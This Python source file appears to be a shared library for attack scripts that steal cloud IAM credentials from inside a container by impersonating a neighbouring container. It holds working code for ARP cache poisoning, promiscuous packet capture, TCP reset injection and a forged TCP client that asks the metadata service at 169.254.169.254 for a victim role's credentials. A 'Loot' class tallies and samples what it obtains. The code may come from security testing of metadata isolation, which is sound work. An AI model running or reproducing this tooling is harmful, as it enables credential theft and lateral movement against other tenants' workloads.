"""Ethernet, ARP, IP and TCP by hand, for clients that say they are somebody else.

The kernel of a container sends only what is true of the container; a raw socket (NET_RAW, which Docker grants by default)
sends anything. Standard library only: it runs wherever there is a Python.
"""

import argparse
import collections
import fcntl
import json
import os
import random
import socket
import struct
import sys
import time

FIN, SYN, RST, PSH, ACK = 1, 2, 4, 8, 16
BROADCAST = b"\xff" * 6
# Of the attacker's own making: its kernel takes what is sent to it for somebody else's, and neither answers nor forwards.
MADE_UP = bytes.fromhex("026600000066")

Segment = collections.namedtuple("Segment", "source target source_port target_port flags seq ack data packet")


def mac(text):
    return bytes.fromhex(text.replace(":", ""))


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


class Wire:
    """The container's own link, with nothing in between."""

    def __init__(self, interface="eth0"):
        self.socket = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
        self.socket.bind((interface, 0x0800))
        # All that comes over the link, not only what is for us: PACKET_ADD_MEMBERSHIP, PACKET_MR_PROMISC.
        promiscuous = struct.pack("iHH8s", socket.if_nametoindex(interface), 1, 0, b"")
        self.socket.setsockopt(263, 1, promiscuous)
        self.interface = interface
        self.own_mac = mac(open(f"/sys/class/net/{interface}/address").read().strip())
        self.own_ip = self._own_ip()
        self.gateway_ip = self._gateway()
        self.gateway_mac = self._neighbour(self.gateway_ip)

    def _own_ip(self):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
            request = struct.pack("256s", self.interface.encode())
            return socket.inet_ntoa(fcntl.ioctl(probe, 0x8915, request)[20:24])  # SIOCGIFADDR

    def _gateway(self):
        for line in open("/proc/net/route").read().splitlines()[1:]:
            fields = line.split()
            if fields[0] == self.interface and fields[1] == "00000000":
                return socket.inet_ntoa(struct.pack("=I", int(fields[2], 16)))
        sys.exit("no default route: nothing to attack through")

    def _neighbour(self, address):
        end = time.monotonic() + 2
        while time.monotonic() < end:
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
                probe.sendto(b"?", (address, 9))  # makes our kernel ask for its MAC
            for line in open("/proc/net/arp").read().splitlines()[1:]:
                fields = line.split()
                if fields[0] == address and fields[3] != "00:00:00:00:00:00":
                    return mac(fields[3])
            time.sleep(0.01)
        sys.exit(f"{address} does not say its MAC")

    def frame(self, to, source, kind, payload):
        self.socket.send(to + source + struct.pack("!H", kind) + payload)

    def arp(self, operation, sender_mac, sender_ip, target_mac, target_ip, to):
        payload = struct.pack("!HHBBH", 1, 0x0800, 6, 4, operation)
        payload += sender_mac + socket.inet_aton(sender_ip) + target_mac + socket.inet_aton(target_ip)
        self.frame(to, sender_mac, 0x0806, payload)

    def tell_the_truth(self, victim, victim_mac):
        """What was poisoned is so no longer: the victim's next request is not ours to break."""
        for _ in range(2):
            self.claim(victim, victim_mac, self.gateway_mac)
            self.claim(self.gateway_ip, self.gateway_mac, victim_mac)
            time.sleep(0.02)

    def claim(self, ip, is_at, to_mac):
        """Tells one neighbour that `ip` is at `is_at`; the bridge learns that `is_at` is behind our port.

        Gratuitous: an answer is not believed in the second after another one.
        """
        self.arp(1, is_at, ip, b"\0" * 6, ip, to=to_mac)

    def tcp(self, source, target, source_port, target_port, flags, seq, ack, data=b"", source_mac=None, target_mac=None):
        addresses = socket.inet_aton(source) + socket.inet_aton(target)
        head = struct.pack("!HHIIBBHHH", source_port, target_port, seq & 0xFFFFFFFF, ack & 0xFFFFFFFF, 0x50, flags, 0xFFFF, 0, 0)
        total = checksum(addresses + struct.pack("!BBH", 0, 6, len(head) + len(data)) + head + data)
        head = head[:16] + struct.pack("!H", total) + head[18:]
        self.ip(6, addresses, head + data, source_mac, target_mac)

    def ping(self, source, target, source_mac, target_mac):
        echo = struct.pack("!BBHHH", 8, 0, 0, os.getpid() & 0xFFFF, 1)
        echo = echo[:2] + struct.pack("!H", checksum(echo)) + echo[4:]
        self.ip(1, socket.inet_aton(source) + socket.inet_aton(target), echo, source_mac, target_mac)

    def ip(self, protocol, addresses, payload, source_mac=None, target_mac=None):
        head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(payload), random.getrandbits(16), 0, 64, protocol, 0) + addresses
        head = head[:10] + struct.pack("!H", checksum(head)) + head[12:]
        self.frame(target_mac or self.gateway_mac, source_mac or self.own_mac, 0x0800, head + payload)

    def forward(self, segment, source_mac, target_mac):
        """Passes a segment on as it is; what is caught on a virtual link has no checksum yet."""
        packet = segment.packet
        length = (packet[0] & 15) * 4
        tcp = packet[length : struct.unpack("!H", packet[2:4])[0]]
        tcp = tcp[:16] + b"\0\0" + tcp[18:]
        total = checksum(packet[12:20] + struct.pack("!BBH", 0, 6, len(tcp)) + tcp)
        tcp = tcp[:16] + struct.pack("!H", total) + tcp[18:]
        self.frame(target_mac, source_mac, 0x0800, packet[:length] + tcp)

    def segments(self, seconds):
        """Every TCP segment that comes in meanwhile; None now and then, so that the caller can do something else."""
        end = time.monotonic() + seconds
        while True:
            left = end - time.monotonic()
            if left <= 0:
                return
            self.socket.settimeout(min(left, 0.05))
            try:
                frame = self.socket.recv(65600)
            except (TimeoutError, BlockingIOError):
                yield None
                continue
            packet = frame[14:]
            if len(packet) < 40 or packet[9] != 6:
                continue
            length = (packet[0] & 15) * 4
            tcp = packet[length : struct.unpack("!H", packet[2:4])[0]]
            source_port, target_port, seq, ack, offset, flags = struct.unpack("!HHIIBB", tcp[:14])
            addresses = socket.inet_ntoa(packet[12:16]), socket.inet_ntoa(packet[16:20])
            yield Segment(*addresses, source_port, target_port, flags, seq, ack, tcp[(offset >> 4) * 4 :], packet)

    def drain(self):
        """Forgets what has come in so far."""
        self.socket.settimeout(0)
        try:
            while True:
                self.socket.recv(65600)
        except OSError:
            pass


class Impostor:
    """A TCP client with somebody else's address. Its own kernel knows nothing of the connection."""

    def __init__(self, wire, ip, its_mac, port, server, server_port):
        self.wire, self.ip, self.mac, self.port = wire, ip, its_mac, port
        self.server, self.server_port = server, server_port
        self.seq, self.ack = random.getrandbits(32), 0

    def send(self, flags, data=b"", seq=None):
        seq = self.seq if seq is None else seq
        ack = self.ack if flags & ACK else 0
        self.wire.tcp(self.ip, self.server, self.port, self.server_port, flags, seq, ack, data, self.mac)

    def answers(self, seconds):
        """Segments of this connection; None now and then."""
        ours = (self.server, self.ip, self.server_port, self.port)
        for segment in self.wire.segments(seconds):
            if segment is None or segment[:4] == ours:
                yield segment

    def connect(self, seconds, again=lambda: None):
        """Whether there was a SYN-ACK. `again` is done before every SYN."""
        again()
        self.send(SYN)
        sent = time.monotonic()
        for segment in self.answers(seconds):
            if segment and segment.flags & (SYN | ACK) == SYN | ACK and segment.ack == (self.seq + 1) & 0xFFFFFFFF:
                self.seq, self.ack = self.seq + 1, segment.seq + 1
                self.send(ACK)
                return True
            if segment and segment.flags & (SYN | ACK | RST) == ACK:
                # The server still has a connection of these numbers, and says which byte it waits for: that is all that
                # it takes to end it.
                again()
                self.send(RST, seq=segment.ack)
                self.seq = segment.ack + 1_000_000
                self.send(SYN)
                sent = time.monotonic()
            if time.monotonic() - sent > 0.15:
                again()
                self.send(SYN)
                sent = time.monotonic()
        return False

    def ask(self, request, seconds, again=lambda: None):
        """What comes back, until the other side closes, resets, or is silent for too long. Takes the connection as it is."""
        first, answer = self.seq, b""
        self.seq += len(request)
        self.send(PSH | ACK, request, seq=first)
        sent = time.monotonic()
        for segment in self.answers(seconds):
            if segment is None:
                if not answer and time.monotonic() - sent > 0.15:
                    again()
                    self.send(PSH | ACK, request, seq=first)
                    sent = time.monotonic()
                continue
            if segment.flags & RST:
                break
            if segment.data and segment.seq == self.ack & 0xFFFFFFFF:
                answer += segment.data
                self.ack += len(segment.data)
            if segment.data:
                self.send(ACK)
            if segment.flags & FIN and (segment.seq + len(segment.data)) & 0xFFFFFFFF == self.ack & 0xFFFFFFFF:
                self.ack += 1
                self.send(FIN | ACK)
                break
            if whole(answer):
                break
        return answer

    def reset(self):
        """Leaves nothing behind for the next try."""
        self.send(RST | ACK)


def whole(answer):
    """Whether this is all of an HTTP answer."""
    head, found, body = answer.partition(b"\r\n\r\n")
    if not found:
        return False
    for line in head.lower().split(b"\r\n"):
        if line.startswith(b"content-length:"):
            return len(body) >= int(line.split(b":")[1])
    return False


def status(answer):
    return int(answer[9:12]) if answer.startswith(b"HTTP/1.") and answer[9:12].isdigit() else 0


class Loot:
    """What an attacker got."""

    def __init__(self, role):
        self.role = role.encode()
        self.tries = self.connections = self.answers = self.bytes = self.tells = 0
        self.statuses = collections.Counter()
        self.sample = ""
        self.notes = {}

    def answer(self, answer):
        if not answer:
            return
        self.answers += 1
        self.statuses[str(status(answer))] += 1
        bare_refusal = status(answer) == 403 and answer.endswith(b"\r\n\r\n")
        told = b"SecretAccessKey" in answer or self.role in answer
        self.tells += told
        if not bare_refusal:
            self.bytes += len(answer)
            # Its end may be a secret, and this is printed.
            self.sample = self.sample or answer[:60].decode("latin-1")

    def print(self):
        """One line: bytes are those of answers that say more than a bare 403."""
        row = {key: value for key, value in vars(self).items() if key not in ("role", "notes")}
        print(json.dumps({**row, **self.notes}), flush=True)


def request_for(role, path=None):
    path = path or f"/latest/meta-data/iam/security-credentials/{role}"
    return f"GET {path} HTTP/1.1\r\nHost: 169.254.169.254\r\nConnection: close\r\n\r\n".encode()


def arguments(description, *more):
    """What all attackers are told: whom to impersonate, whom to ask."""
    parser = argparse.ArgumentParser(description=description)
    parser.add_argument("--victim", required=True, help="its address")
    parser.add_argument("--victim-mac", default="", help="its MAC")
    parser.add_argument("--role", default="victim", help="its role")
    parser.add_argument("--server", default="169.254.169.254")
    parser.add_argument("--server-port", type=int, default=80)
    parser.add_argument("--tries", type=int, default=10)
    for names, options in more:
        parser.add_argument(*names, **options)
    return parser.parse_args()
